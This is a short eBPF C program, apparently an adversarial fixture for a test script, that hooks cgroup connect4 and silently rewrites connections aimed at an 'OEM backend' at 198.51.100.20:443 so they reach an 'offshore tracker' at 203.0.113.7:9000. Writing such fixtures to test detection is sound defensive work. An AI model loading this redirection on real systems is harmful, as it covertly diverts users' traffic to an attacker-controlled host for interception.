// SPDX-License-Identifier: GPL-2.0-only
/*
 * An adversary for tests/adversarial/test_redirect.sh: a cgroup/connect4 program that rewrites
 * a connection to the OEM backend (198.51.100.20:443) into one to the offshore tracker
 * (203.0.113.7:9000), as another agent's "transparent proxy" program might.
 */
#include <linux/bpf.h>
#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

SEC("cgroup/connect4")
int redirect_connect4(struct bpf_sock_addr *ctx)
{
	if (ctx->user_ip4 == bpf_htonl(0xc6336414) && ctx->user_port == bpf_htons(443)) {
		ctx->user_ip4 = bpf_htonl(0xcb007107); /* 203.0.113.7 */
		ctx->user_port = bpf_htons(9000);
	}
	return 1;
}

char LICENSE[] SEC("license") = "GPL";
